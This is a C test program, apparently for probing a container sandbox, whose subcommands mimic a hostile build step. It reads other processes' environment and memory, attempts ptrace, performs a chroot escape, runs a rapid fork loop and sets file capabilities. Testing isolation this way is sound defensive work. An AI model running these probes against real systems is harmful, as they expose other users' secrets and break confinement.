/* What a hostile RUN tries. Statically linked, so that it runs in any root file system. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static int caps(void) {
    unsigned long long bounding = 0;
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    for (int number = 0; number < 64; number++)
        if (prctl(PR_CAPBSET_READ, number, 0, 0, 0) == 1) bounding |= 1ULL << number;
    syscall(SYS_capget, &header, data);
    printf("bounding %llx permitted %x%08x inheritable %x%08x\n", bounding, data[1].permitted, data[0].permitted,
           data[1].inheritable, data[0].inheritable);
    return 0;
}

static int ids(void) {
    gid_t groups[64];
    int count = getgroups(64, groups);
    mode_t mask = umask(0);
    printf("uid %d euid %d gid %d umask %03o groups", getuid(), geteuid(), getgid(), mask);
    for (int i = 0; i < count; i++) printf(" %d", groups[i]);
    printf("\n");
    return 0;
}

static long session_of(const char *pid) {
    char path[64], text[512];
    long session = -1;
    snprintf(path, sizeof path, "/proc/%s/stat", pid);
    FILE *file = fopen(path, "r");
    if (!file) return -1;
    if (fgets(text, sizeof text, file)) sscanf(strrchr(text, ')') + 2, "%*c %*d %*d %ld", &session);
    fclose(file);
    return session;
}

static int links(const char *folder) {
    /* How many of the links in a folder can be read or followed. Their names alone tell nothing. */
    int found = 0;
    struct dirent *entry;
    DIR *opened = opendir(folder);
    while (opened && (entry = readdir(opened))) {
        char path[256], target[256];
        if (entry->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        int fd = open(path, O_RDONLY | O_NONBLOCK);
        if (fd >= 0 || readlink(path, target, sizeof target) >= 0) {
            printf("open %s\n", path);
            found++;
        }
        if (fd >= 0) close(fd);
    }
    if (opened) closedir(opened);
    return found;
}

static int spy(void) {
    /* Look into every process that isn't of this session: files of /proc, memory, ptrace. */
    static const char *const files[] = {"environ", "maps", "mem", "root/.", "cwd/.", "auxv", "io", "exe",
                                        "fd", "map_files"};
    enum { LINKS = 8 };
    static char data[65536];
    int seen = 0, open_doors = 0;
    long own = session_of("self");
    struct dirent *entry;
    DIR *proc = opendir("/proc");
    while ((entry = readdir(proc))) {
        const char *pid = entry->d_name;
        if (!isdigit(pid[0]) || session_of(pid) == own) continue;
        seen++;
        for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
            char path[128];
            snprintf(path, sizeof path, "/proc/%s/%s", pid, files[i]);
            if (i >= LINKS) {
                open_doors += links(path);
                continue;
            }
            int fd = open(path, O_RDONLY);
            if (fd < 0) continue;
            ssize_t size = read(fd, data, sizeof data);
            struct stat info;
            int folder = fstat(fd, &info) == 0 && S_ISDIR(info.st_mode);
            if (size > 0 || folder) {
                printf("open %s\n", path);
                if (size > 0) fwrite(data, 1, size, stdout);
                open_doors++;
            }
            close(fd);
        }
        if (ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0 || ptrace(PTRACE_ATTACH, atoi(pid), 0, 0) == 0) {
            printf("ptrace %s\n", pid);
            open_doors++;
        }
        struct iovec local = {data, 1}, remote = {(void *)0x400000, 1};
        if (process_vm_readv(atoi(pid), &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT) {
            printf("process_vm_readv %s\n", pid);
            open_doors++;
        }
    }
    printf("seen %d open %d\n", seen, open_doors);
    return 0;
}

static int escape(void) {
    /* The classic: chroot deeper while holding a folder above it, climb from there. */
    mkdir("/cage", 0755);
    int above = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/cage") != 0) {
        printf("chroot: %s\n", strerror(errno));
        return 0;
    }
    fchdir(above);
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    printf("outside %s\n", access("/proc/1/../../outside-marker", F_OK) == 0 || access("/outside-marker", F_OK) == 0
                              ? "reached" : "not reached");
    struct dirent *entry;
    DIR *root = opendir("/");
    while ((entry = readdir(root))) printf("entry %s\n", entry->d_name);
    return 0;
}

static int hydra(void) {
    /* For five seconds: a process that is another one by the time somebody looks. */
    for (int i = 0; i < 50000; i++) {
        pid_t child = fork();
        if (child < 0) return 1;
        if (child > 0) _exit(0);
        setsid();
        usleep(100);
    }
    return 0;
}

static int setcap(const char *path) {
    /* cap_net_bind_service+ep */
    unsigned value[5] = {0x02000001, 1 << 10, 0, 0, 0};
    return setxattr(path, "security.capability", value, sizeof value, 0) != 0;
}

static int sockets(void) {
    /* What the network lets this process do. */
    struct sockaddr_in low = {.sin_family = AF_INET, .sin_port = htons(80)};
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    printf("low port %s", bind(listener, (struct sockaddr *)&low, sizeof low) == 0 ? "yes" : strerror(errno));
    printf(", ping %s", socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP) >= 0 ? "yes" : strerror(errno));
    printf(", raw %s\n", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) >= 0 ? "yes" : strerror(errno));
    return 0;
}

int main(int count, char **words) {
    const char *what = count > 1 ? words[1] : "";
    if (!strcmp(what, "caps")) return caps();
    if (!strcmp(what, "ids")) return ids();
    if (!strcmp(what, "spy")) return spy();
    if (!strcmp(what, "escape")) return escape();
    if (!strcmp(what, "hydra")) return hydra();
    if (!strcmp(what, "sockets")) return sockets();
    if (!strcmp(what, "setcap")) return setcap(words[2]);
    return 2;
}
